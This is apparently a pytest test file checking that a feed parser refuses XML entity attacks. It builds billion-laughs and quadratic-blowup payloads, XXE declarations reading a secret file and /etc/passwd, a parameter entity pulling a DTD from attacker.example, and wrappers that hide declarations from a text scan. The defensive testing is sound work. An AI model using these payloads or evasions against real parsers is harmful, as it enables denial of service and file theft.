"""XML entity attacks: a fast text scan refuses the obvious ones before any parser runs; the
parsers themselves (lxml with entities off and its DTD checked, the feedparser fallback handed
no declarations) refuse or leave literal whatever the scan misses."""

from __future__ import annotations

import tracemalloc
from datetime import datetime, timezone
from pathlib import Path
from unittest import mock

import pytest

from newswire.errors import ParseError
from newswire.parse import parse_feed
from newswire.parse import document, xmlfeed
from newswire.parse.fallback import read_with_feedparser

SEEN = datetime(2025, 9, 18, tzinfo=timezone.utc)
REFUSED = "parse: XML entity declarations are refused"


def _rss(doctype: str, title: str = "T") -> bytes:
    return (f'<?xml version="1.0"?>\n{doctype}\n<rss version="2.0"><channel><title>{title}</title>'
            f'<item><title>{title}</title><link>http://example.com/a</link></item></channel></rss>').encode()


def _refused(body: bytes) -> ParseError:
    with mock.patch.object(document.xmlfeed, "parse_xml") as lxml_parse, \
            mock.patch.object(document, "read_with_feedparser") as fallback:
        with pytest.raises(ParseError) as info:
            parse_feed(body, url="http://example.com/feed", seen_at=SEEN)
    assert lxml_parse.call_count == 0 and fallback.call_count == 0  # refused before parsing
    assert str(info.value).startswith(REFUSED)
    return info.value


def test_billion_laughs_is_refused() -> None:
    decls = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    _refused(_rss(f"<!DOCTYPE rss [{decls}]>", "&lol9;"))


def test_quadratic_blowup_is_refused() -> None:
    _refused(_rss(f'<!DOCTYPE rss [<!ENTITY a "{"x" * 50_000}">]>', "&a;" * 2000))


def test_external_system_entity_is_refused_and_file_never_read(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT")
    body = _rss(f'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "{secret.as_uri()}">]>', "&xxe;")
    error = _refused(body)
    assert "TOP-SECRET-CONTENT" not in str(error)


def test_external_entity_refused_without_mocks(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT")
    body = _rss(f'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "{secret.as_uri()}">]>', "&xxe;")
    with pytest.raises(ParseError, match=REFUSED):
        parse_feed(body, url="http://example.com/feed", seen_at=SEEN)


def test_parameter_entity_is_refused() -> None:
    _refused(_rss('<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>'))


def test_lowercase_or_spaced_entity_declaration_is_refused() -> None:
    _refused(_rss('<!DOCTYPE rss [<! entity x "y">]>', "&x;"))


def test_entity_declaration_after_a_comment_is_still_refused() -> None:
    _refused(_rss('<!-- <rss> --><!DOCTYPE rss [<!ENTITY x "y">]>', "&x;"))


def test_external_dtd_is_not_loaded(tmp_path: Path) -> None:
    dtd = tmp_path / "evil.dtd"
    dtd.write_text('<!ENTITY leak "DTD-WAS-LOADED">')
    body = _rss(f'<!DOCTYPE rss SYSTEM "{dtd.as_uri()}">', "Hello &leak;")
    feed = parse_feed(body, url="http://example.com/feed", seen_at=SEEN)
    assert "DTD-WAS-LOADED" not in repr(feed)


def test_netscape_rss091_doctype_parses_without_network() -> None:
    doctype = ('<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
               '"http://my.netscape.com/publish/formats/rss-0.91.dtd">')
    body = _rss(doctype, "Ninety-one").replace(b'version="2.0"', b'version="0.91"')
    with mock.patch("urllib.request.urlopen", side_effect=AssertionError("network used")), \
            mock.patch("socket.create_connection", side_effect=AssertionError("network used")):
        feed = parse_feed(body, url="http://example.com/feed", seen_at=SEEN)
    assert feed.format == "rss09x"
    assert feed.title == "Ninety-one" and feed.entries[0].title == "Ninety-one"


def test_entity_text_inside_cdata_is_harmless_and_allowed() -> None:
    body = (b'<rss version="2.0"><channel><title>T</title><item><title>X</title>'
            b'<description><![CDATA[<p>How &lt;!ENTITY&gt; works: <code><!ENTITY a "b"></code></p>]]></description>'
            b'</item></channel></rss>')
    feed = parse_feed(body, url="http://example.com/feed", seen_at=SEEN)
    assert "ENTITY" in feed.entries[0].text


# --- the parsers themselves are the guard: declarations hidden from the byte scan ---------------
# A comment that opens a CDATA section (``<!-- <![CDATA[ -->``) makes a text scan think the rest
# is character data; a real XML parser sees a comment and then the DOCTYPE. Whatever the scan
# misses, neither lxml nor the feedparser fallback may expand an entity.

WRAPPER = "<!-- <![CDATA[ -->\n"
SECRET = "TOP-SECRET-CONTENT"


def _laughs(depth: int = 9) -> str:
    return '<!ENTITY lol "lol">\n' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n' for i in range(1, depth + 1))


def _parse_peak(body: bytes) -> tuple[object, int]:
    """parse_feed's result (or the ParseError it raised) and the peak of Python allocations."""
    tracemalloc.start()
    try:
        try:
            outcome: object = parse_feed(body, url="http://example.com/feed", seen_at=SEEN)
        except ParseError as error:
            outcome = error
        return outcome, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def _assert_refused_or_literal(outcome: object, expanded: str) -> None:
    if isinstance(outcome, ParseError):
        assert str(outcome).startswith(REFUSED)
        assert expanded not in str(outcome)
    else:
        assert expanded not in repr(outcome)


def test_billion_laughs_behind_a_comment_cdata_wrapper_is_refused() -> None:
    body = _rss(f"{WRAPPER}<!DOCTYPE rss [\n{_laughs()}]>", "&lol9;")
    outcome, peak = _parse_peak(body)
    _assert_refused_or_literal(outcome, "lollollol")
    assert isinstance(outcome, ParseError)
    assert peak < 10_000_000


def test_quadratic_blowup_behind_a_comment_cdata_wrapper_is_refused() -> None:
    body = (f'<?xml version="1.0"?>\n{WRAPPER}<!DOCTYPE rss [\n<!ENTITY a "{"x" * 20_000}">\n]>\n'
            '<rss version="2.0"><channel><title>T</title><item><title>t</title><description>'
            + "&a;" * 2000 + "</description><link>http://example.com/a</link></item></channel></rss>").encode()
    outcome, peak = _parse_peak(body)
    _assert_refused_or_literal(outcome, "x" * 40_000)
    assert peak < 10_000_000, f"peak {peak} bytes"


def test_external_entity_behind_a_wrapper_is_never_read(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    for decl in (f'<!ENTITY xxe SYSTEM "{secret.as_uri()}">', '<!ENTITY xxe SYSTEM "file:///etc/passwd">'):
        body = _rss(f"{WRAPPER}<!DOCTYPE rss [\n{decl}\n]>", "&xxe;")
        outcome, _ = _parse_peak(body)
        _assert_refused_or_literal(outcome, SECRET)
        _assert_refused_or_literal(outcome, "root:")


def test_padding_before_the_doctype_does_not_hide_it() -> None:
    for padding in (" " * 100_000, "<!-- " + "p" * 100_000 + " -->\n"):
        body = _rss(f"{padding}<!DOCTYPE rss [\n{_laughs(3)}]>", "&lol3;")
        outcome, _ = _parse_peak(body)
        assert isinstance(outcome, ParseError) and str(outcome).startswith(REFUSED)


def test_utf16_feed_with_entity_declarations_is_refused() -> None:
    text = _rss(f"<!DOCTYPE rss [\n{_laughs(3)}]>", "&lol3;").decode().replace(
        '<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>')
    outcome, _ = _parse_peak(text.encode("utf-16"))
    assert isinstance(outcome, ParseError) and str(outcome).startswith(REFUSED)


def test_lxml_refuses_declared_entities_without_the_byte_scan() -> None:
    """The fast path on its own: the parser's view of the DTD decides, not a text scan."""
    data = _rss(f"<!DOCTYPE rss [\n{_laughs(2)}]>", "&lol2;").replace(b'<?xml version="1.0"?>', b"")
    with pytest.raises(ParseError, match=REFUSED):
        xmlfeed.parse_xml(data, "http://example.com/feed")
    root, _ = xmlfeed.parse_xml(_rss('<!DOCTYPE rss SYSTEM "http://example.com/rss.dtd">', "Fine")
                                .replace(b'<?xml version="1.0"?>', b""), "http://example.com/feed")
    assert root is not None  # a DOCTYPE without declarations is fine


@pytest.mark.parametrize("prefix", ["", "<!-- <rss> -->\n", WRAPPER, "<!-- <rss> <![CDATA[ -->\n"])
@pytest.mark.parametrize("damage", ["", "<unclosed>"])  # well-formed (expat) or not (loose parser)
def test_feedparser_fallback_never_expands_declared_entities(prefix: str, damage: str) -> None:
    """The fallback on its own, handed declarations directly: its expat parser and its loose
    parser (which takes "safe" entities from feedparser's own DOCTYPE regexes) expand nothing."""
    doc = (f"{prefix}<!DOCTYPE rss [\n<!ENTITY a \"EXPANDED-ENTITY\">\n]>\n"
           f"<rss version=\"2.0\"><channel><title>Hi &a;</title><item><title>One &a;</title>{damage}"
           "<link>http://example.com/a</link></item></channel></rss>")
    feed = read_with_feedparser(doc.encode(), "http://example.com/feed")
    assert "EXPANDED-ENTITY" not in repr(feed)
